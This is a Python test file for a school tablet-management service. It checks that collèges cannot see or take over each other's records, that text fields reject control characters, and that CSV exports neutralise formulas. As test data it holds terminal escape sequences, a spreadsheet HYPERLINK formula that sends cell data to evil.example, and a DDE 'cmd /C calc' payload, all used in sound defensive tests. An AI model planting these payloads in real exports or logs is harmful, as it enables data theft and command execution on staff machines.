"""test_inputs.py - issue 11: what staff type and what staff read.

An ATI's person file cannot take over a pupil of another collège; reason,
note and reference fields are one bounded line of text everywhere and the
audit log still lists after odd rows; ardoisectl never prints a control
character raw; CSV exports cannot carry a formula; a record outside the
caller's collèges answers like an unknown one, and a tablet moved between
collèges shows the new collège only its own past.

Collège A = 0131266F, B = 0132318Z (fleet_common.setup_fleet).
"""
import csv
import io
import json
import re

from fleet_common import A, B, day, setup_fleet, enrolled
from harness import Daemon, Sim, check, run, scaled, write

ESC = "\x1b"
BIG = "x" * 1000000  # 1 MB: under the 1 MiB JSON limit, far over 512 bytes
ODD = {  # values a reason, note or reference must not take
    "1 MB": BIG,
    "513 bytes": "é" * 256 + "x",
    "ANSI escape": ESC + "[2J" + ESC + "[31mvol" + ESC + "[0m",
    "newline": "vol déclaré\nfaux audit: tout va bien",
    "carriage return": "vol\rtout va bien",
    "tab": "vol\tdéclaré",
    "DEL": "vol\x7f",
    "C1 CSI": "vol\u009b2J",
}


def account(d, name, role, *schools):
    args = ["account", "create", "--name", name, "--role", role]
    for s in schools:
        args += ["--school", s]
    m = re.search(r"^token: (ard_\S+)$", d.ctl(*args).stdout, re.M)
    check(m is not None, "account create prints the token")
    return m.group(1)


def stored(d):
    """What a refused request must leave as it was."""
    return d.sqlite("SELECT " + ", ".join("(SELECT count(*) FROM %s)" % t for t in (
        "audit", "command", "incident", "loan", "locate_request"))).stdout.strip()


def enrolled_tablet(d):
    """One simulated iPad enrolled through SCEP (it has an UnlockToken), in A."""
    code = d.ctl_json("enroll-code", "new", "--uses", "1")["code"]
    sim = Sim(d)
    sim("enroll", "-n", "1", "--code", code)
    sim("connect")
    serial = sim.devices()[0]["serial"]
    d.ctl("device", "move", serial, "--school", A)
    return serial


# -- 1. import takeover -------------------------------------------------------

def test_import_cannot_take_over_another_colleges_pupil():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        ati = account(d, "ati-a", "ati", A)
        before = d.ctl_json("person", "show", "E-B1")
        path = write(d, "takeover.csv", "external_id;kind;name;class;uai\n"
                                        "N-A9;pupil;Nouvel Élève;3A;%s\n"
                                        "E-B1;pupil;Pirate;3A;%s\n" % (A, A))
        out = d.ctl("person", "import", path, token=ati, expect=1)
        shown = out.stdout + out.stderr
        check(re.search(r":3: .*E-B1", out.stdout) is not None,
              "the row of the other collège's pupil is refused with its line: %r" % shown)
        check(B not in shown and "Coutarel" not in shown,
              "the refusal does not name the collège holding the pupil: %r" % shown)
        after = d.ctl_json("person", "show", "E-B1")
        check(after["school"] == B and after["name"] == before["name"] == "Jules Petit",
              "the pupil stays in B with their name: %r" % after)
        people = [p["id"] for p in d.ctl_json("person", "list")]
        check("N-A9" not in people, "all or nothing: the good row is not written either")
        out = d.ctl("person", "import", path, "--json", token=ati, expect=1)
        rep = json.loads(out.stdout)
        check(rep["errors"][0]["line"] == 3 and rep["written"] is False, rep)


# -- 2. reasons, notes, references ---------------------------------------------

def check_refused(d, path, body, what, token="admin"):
    before = stored(d)
    status, _, data = d.request("POST", path, body=body, token=token)
    check(status == 400, "%s %s: 400 expected, got %d %r" % (path, what, status, data[:200]))
    check(stored(d) == before, "%s %s: nothing stored (audit, command, incident, loan, "
          "locate) %r -> %r" % (path, what, before, stored(d)))


def test_reason_fields_are_one_bounded_line():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        mine = enrolled_tablet(d)
        ati = account(d, "ati-a", "ati", A)
        pending = d.api("POST", "/api/v1/locate", {"serial": "DMPA00000003", "authority_ref": "PV-13-1",
                                                   "reason": "réquisition"}, expect=201)["id"]
        d.api("POST", "/api/v1/loans", {"device": "DMPA00000002", "person": "E-A1"}, expect=201)
        inc = d.api("POST", "/api/v1/incidents", {"device": "DMPA00000001", "kind": "damage",
                                                  "occurred": day(0)}, expect=201)["id"]
        for what, bad in ODD.items():
            check_refused(d, "/api/v1/devices/%s/clear-passcode" % mine, {"reason": bad}, what, ati)
            check_refused(d, "/api/v1/devices/%s/lock" % mine, {"reason": bad}, what, ati)
            check_refused(d, "/api/v1/devices/%s/lock" % mine, {"phone": bad}, what, ati)
            check_refused(d, "/api/v1/locate", {"serial": mine, "authority_ref": "PV-13-2", "reason": bad}, what)
            check_refused(d, "/api/v1/locate", {"serial": mine, "authority_ref": bad, "reason": "vol"}, what)
            check_refused(d, "/api/v1/locate/%d/deny" % pending, {"reason": bad}, what)
            check_refused(d, "/api/v1/incidents", {"device": "DMPA00000003", "kind": "theft", "occurred": day(0),
                                                   "police_ref": bad}, what, ati)
            check_refused(d, "/api/v1/incidents", {"device": "DMPA00000003", "kind": "damage", "occurred": day(0),
                                                   "note": bad}, what, ati)
            check_refused(d, "/api/v1/incidents/%d/close" % inc, {"outcome": "repaired", "note": bad}, what, ati)
            check_refused(d, "/api/v1/incidents/%d/update" % inc, {"police_ref": bad}, what, ati)
            check_refused(d, "/api/v1/incidents/%d/update" % inc, {"reported": day(0), "reason": bad}, what, ati)
            check_refused(d, "/api/v1/loans", {"device": "DMPA00000003", "person": "E-A3", "reason": bad}, what, ati)
            check_refused(d, "/api/v1/loans/return", {"device": "DMPA00000002", "reason": bad}, what, ati)
            if what not in ("newline",):  # the Lock screen shows several lines
                check_refused(d, "/api/v1/devices/%s/lock" % mine, {"message": bad}, what, ati)
                check_refused(d, "/api/v1/devices/%s/commands" % mine,
                              {"type": "DeviceLock", "params": ["Message=" + bad]}, what)
        check(d.api("GET", "/api/v1/locate/%d" % pending)["state"] == "pending", "the request is still pending")
        # plain text still works, and a lock-screen message may hold line breaks
        d.api("POST", "/api/v1/devices/%s/lock" % mine,
              {"message": "Tablette du collège\nRapportez-la au CDI", "reason": "perdue en cours"},
              token=ati, expect=201)
        d.api("POST", "/api/v1/devices/%s/clear-passcode" % mine, {"reason": "code oublié — « 5B »"},
              token=ati, expect=201)
        status, _, data = d.request("POST", "/api/v1/people/import?reason=%1b%5b2J", body=b"id,kind,name,uai\n",
                                    headers={"Content-Type": "text/csv"})
        check(status == 400, "an import's reason is text too: %d %r" % (status, data[:200]))


def test_audit_lists_after_many_odd_but_valid_reasons():
    """Reasons of 512 bytes that JSON escapes most (quotes, backslashes,
    accents: \\u00e9 with ENSURE_ASCII) pass the answer's cap (2 x
    max_body_bytes) in one page: the page must end early and give the cursor."""
    with Daemon(config="[server]\nmax_body_bytes = 65536\n", init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        reason = ('é"\\' * 128)
        check(len(reason.encode()) == 512, "512 bytes")
        conn = d.connect()
        for i in range(150):
            status, _, data = d.request("POST", "/api/v1/people/E-A1/agreement",
                                        body={"date": day(0), "reason": reason}, conn=conn)
            check(status == 200, "agreement %d: %d %r" % (i, status, data[:200]))
        conn.close()
        status, _, data = d.request("GET", "/api/v1/audit")
        check(status == 200, "GET /api/v1/audit: %d %r" % (status, data[:200]))
        page = json.loads(data)
        check(page["rows"] and page["next"] is not None, "a partial page and its cursor")
        rows = d.ctl_json("audit", "list")
        check(sum(r["reason"] == reason for r in rows) == 150, "ardoisectl gathers every row")


# Under the sanitizers the answer's cap and the rows are both 64 times
# smaller (max_body_bytes 128 KiB instead of the default 8 MiB, rows of
# 15.6 kB instead of 1 MB): the same ratios, so the same pages of two rows,
# for a 64th of the bytes escaped and parsed.
OLD_ROW_PAIRS = scaled(500000, 500000 // 64)  # "ESC [" pairs in an old row
OLD_ROW_CONFIG = scaled("", "[server]\nmax_body_bytes = %d\n" % (8388608 // 64))


def test_audit_lists_old_megabyte_rows():
    """Rows written before reasons were bounded (1 MB of ANSI escapes each):
    25 of them made GET /api/v1/audit answer 500."""
    with Daemon(config=OLD_ROW_CONFIG, init_args=["--no-baseline"]) as d:
        d.ctl("school", "add", A, "--name", "Clg N. Sarraute")
        out = d.sqlite("INSERT INTO audit(ts, actor, action, target, reason, prev_hash, hash)"
                       " SELECT 1700000000 + value, 'ati-a', 'device.lock', 'DMPA00000001',"
                       " replace(hex(zeroblob(%d)), '00', char(27) || '['), '', ''"
                       " FROM generate_series(1, 25)" % OLD_ROW_PAIRS)
        check(out.returncode == 0, out.stderr)
        status, _, data = d.request("GET", "/api/v1/audit")
        check(status == 200, "GET /api/v1/audit with old 1 MB rows: %d %r" % (status, data[:200]))
        page = json.loads(data)
        check(0 < len(page["rows"]) < 25 and page["next"] is not None,
              "a page of a few of them and its cursor: %d rows" % len(page["rows"]))
        rows = d.ctl_json("audit", "list")
        check(sum(r["action"] == "device.lock" for r in rows) == 25, "every row is listed, page after page")


# -- 3. the CLI shows no control character -------------------------------------

def test_cli_escapes_server_text():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        d.ctl("incident", "declare", "--device", "DMPA00000001", "--kind", "damage", "--occurred", day(0),
              "--note", "écran fêlé")
        # old rows, written before the rule: a control character in a reason, a tag, a note
        sql = ("INSERT INTO audit(ts, actor, action, target, reason, prev_hash, hash) VALUES"
               " (1700000000, 'ati-a', 'device.lock', 'DMPA00000001', 'x' || char(27) || '[2J'"
               " || char(27) || ']0;pwned' || char(7) || char(155) || 'y', '', '');"
               "UPDATE device SET asset_tag = 'T' || char(27) || '[31m' WHERE serial = 'DMPA00000001';"
               "UPDATE incident SET police_ref = 'PV' || char(27) || '[5m' || char(13) || 'ok';")
        out = d.sqlite(sql)
        check(out.returncode == 0, out.stderr)
        for args in (["audit", "list"], ["device", "show", "DMPA00000001"], ["device", "list"],
                     ["incident", "list"]):
            out = d.ctl(*args)
            bad = [c for c in out.stdout if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]
            check(not bad, "ardoisectl %s prints control characters raw: %r" % (" ".join(args), bad[:5]))
            check("\\x1b" in out.stdout, "ardoisectl %s shows the ESC escaped: %r" % (" ".join(args), out.stdout[-600:]))
        # a plist is shown on its lines, still without any other control character
        uuid = d.ctl_json("device", "lock", "DMPA00000002", "--message", "Tablette du collège\nRapportez-la",
                          "--reason", "perdue")["uuid"]
        out = d.ctl("command", "show", uuid, "--plist")
        check("<key>RequestType</key>" in out.stdout and out.stdout.count("\n") > 10, out.stdout)
        check(not [c for c in out.stdout if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f],
              "command show --plist: %r" % out.stdout)
        # --json stays JSON, which escapes them itself
        rows = d.ctl_json("audit", "list")
        check(any(ESC in r["reason"] for r in rows), "--json keeps the value: %r" % rows[-1])
        for args in (["audit", "list", "--json"], ["device", "show", "DMPA00000001", "--json"],
                     ["device", "list", "--json"]):
            out = d.ctl(*args)
            bad = [c for c in out.stdout if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]
            check(not bad, "ardoisectl %s: JSON escapes every control character: %r" % (" ".join(args), bad[:5]))


# -- 6. CSV exports ------------------------------------------------------------

def test_csv_exports_carry_no_formula():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        formula = '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'
        d.ctl("school", "add", "0130001F", "--name", "+cmd|' /C calc'!A0")
        d.ctl("device", "import", write(d, "tag.csv", "serial,uai,asset_tag\nDMPA00000009,%s,@SUM(1+1)\n" % A))
        d.ctl("person", "import", write(d, "p.csv", "id,kind,name,class,uai,agreement\n"
                                                    "E-A9,pupil,\"%s\",-3A,%s,yes\n" % (formula.replace('"', '""'), A)))
        d.ctl("loan", "create", "--device", "DMPA00000009", "--person", "E-A9")
        out = d.ctl("loan", "campaign", "--school", A, "--by", day(10), "--csv")
        rows = list(csv.reader(io.StringIO(out.stdout.lstrip("\ufeff")), delimiter=";"))
        mine = [r for r in rows if r and r[1] == "E-A9"]
        check(mine, "the campaign lists the loan: %r" % rows)
        cells = mine[0]
        check(cells[2] == "'" + formula and cells[4] == "'@SUM(1+1)" and cells[0] == "'-3A",
              "formula cells start with a quote: %r" % cells)
        check(all(not c or c[0] not in "=+-@\t\r" for r in rows for c in r), "no cell is a formula: %r" % rows)
        out = d.ctl("report", "fleet", "--csv")
        rows = list(csv.reader(io.StringIO(out.stdout.lstrip("\ufeff")), delimiter=";"))
        check(["0130001F", "'+cmd|' /C calc'!A0"] in [r[:2] for r in rows], "report cells too: %r" % rows)
        check(all(not c or c[0] not in "=+-@\t\r" for r in rows for c in r), "no cell is a formula: %r" % rows)


# -- 4. out of scope answers like unknown ----------------------------------------

def shape(status, data, name):
    msg = json.loads(data)["error"]["message"]
    return status, msg.replace(name, "<X>")


def test_out_of_scope_answers_like_unknown():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        inc = d.ctl_json("incident", "declare", "--device", "DMPB00000001", "--kind", "damage",
                         "--occurred", day(0))["id"]
        tokens = {"ati": account(d, "ati-a", "ati", A), "referent": account(d, "ref-a", "referent", A)}
        pairs = (  # (method, path or body, the other collège's name, an unknown one)
            ("GET", "/api/v1/devices/%s", "DMPB00000001", "DMPZ00000009"),
            ("GET", "/api/v1/devices/%s/commands", "DMPB00000001", "DMPZ00000009"),
            ("GET", "/api/v1/devices/%s/activation-lock", "DMPB00000001", "DMPZ00000009"),
            ("POST", "/api/v1/devices/%s/lock", "DMPB00000001", "DMPZ00000009"),
            ("GET", "/api/v1/people/%s", "E-B1", "E-Z9"),
            ("GET", "/api/v1/incidents/%s", str(inc), "99999"),
            ("GET", "/api/v1/loans?device=%s", "DMPB00000001", "DMPZ00000009"),
            ("POST", "/api/v1/loans/return", "DMPB00000001", "DMPZ00000009"),
            ("POST", "/api/v1/incidents", "DMPB00000001", "DMPZ00000009"),
            ("GET", "/api/v1/schools/%s", B, "0000022Z"),
        )
        for role, tok in tokens.items():
            for method, path, other, unknown in pairs:
                got = []
                for name in (other, unknown):
                    if "%s" in path:
                        status, _, data = d.request(method, path % name, body={} if method == "POST" else None,
                                                    token=tok)
                    else:
                        status, _, data = d.request(method, path, token=tok, body={
                            "device": name, "kind": "loss", "occurred": day(0)})
                    shown = data.decode().replace(name, "<X>")  # a UAI the caller typed may be echoed
                    check(B not in shown and "Coutarel" not in shown,
                          "%s %s %s: the answer names the other collège: %r" % (role, method, path, data))
                    got.append(shape(status, data, name))
                check(got[0] == got[1], "%s %s %s: out of scope %r, unknown %r" % (role, method, path, got[0], got[1]))
                check(got[0][0] in (403, 404), got)
        out_b = d.ctl("device", "show", "DMPB00000001", token=tokens["ati"], expect=1)
        out_z = d.ctl("device", "show", "DMPZ00000009", token=tokens["ati"], expect=1)
        check(out_b.stderr.replace("DMPB00000001", "X") == out_z.stderr.replace("DMPZ00000009", "X"),
              "ardoisectl says the same: %r %r" % (out_b.stderr, out_z.stderr))


# -- 5. history of a moved tablet ----------------------------------------------

def test_moved_tablet_history_stays_with_its_college():
    with Daemon(init_args=["--no-baseline"]) as d:
        setup_fleet(d)
        ati = account(d, "ati-a", "ati", A)
        inc = d.ctl_json("incident", "declare", "--device", "DMPB00000001", "--kind", "damage",
                         "--occurred", day(0), "--note", "chute en EPS")["id"]
        d.ctl("incident", "close", str(inc), "--outcome", "repaired")
        enrolled(d, "DMPB00000001")  # home use needs a managed tablet
        d.ctl("loan", "create", "--device", "DMPB00000001", "--person", "E-B1", "--home-use")
        d.ctl("loan", "return", "DMPB00000001")
        # the erase is acknowledged (no tablet answers here): the loan ends
        out = d.sqlite("UPDATE loan SET state = 'closed', closed_at = returned_at, end_reason = 'erased';"
                       "UPDATE device SET state = 'stock' WHERE serial = 'DMPB00000001';")
        check(out.returncode == 0, out.stderr)
        d.ctl("device", "move", "DMPB00000001", "--school", A)
        full = d.ctl_json("device", "show", "DMPB00000001")
        check(len(full["loans"]) == 1 and len(full["incidents"]) == 1, "a technician sees all: %r" % full)
        seen = d.ctl_json("device", "show", "DMPB00000001", token=ati)
        check(seen["school"] == A, seen)
        check(seen["loans"] == [] and seen["incidents"] == [],
              "the new collège's ATI sees no loan or incident recorded in B: %r %r"
              % (seen["loans"], seen["incidents"]))
        text = d.ctl("device", "show", "DMPB00000001", token=ati).stdout
        check("E-B1" not in text and "Jules" not in text and "chute" not in text, text)
        check(d.ctl_json("loan", "list", "--state", "all", "--device", "DMPB00000001", token=ati) == [],
              "nor in the loan list")
        check(d.ctl_json("incident", "list", "--device", "DMPB00000001", token=ati) == [],
              "nor in the incident list")
        # a pupil moved to A: the ATI of A sees their loans in A only
        d.ctl("person", "import", write(d, "move.csv", "id,kind,name,class,uai\nE-B1,pupil,Jules Petit,3A,%s\n" % A))
        check(d.ctl_json("person", "show", "E-B1", token=ati)["loans"] == [], "a moved pupil's loans in B stay hidden")


if __name__ == "__main__":
    run([test_import_cannot_take_over_another_colleges_pupil,
         test_reason_fields_are_one_bounded_line,
         test_audit_lists_after_many_odd_but_valid_reasons,
         test_audit_lists_old_megabyte_rows,
         test_cli_escapes_server_text,
         test_csv_exports_carry_no_formula,
         test_out_of_scope_answers_like_unknown,
         test_moved_tablet_history_stays_with_its_college])
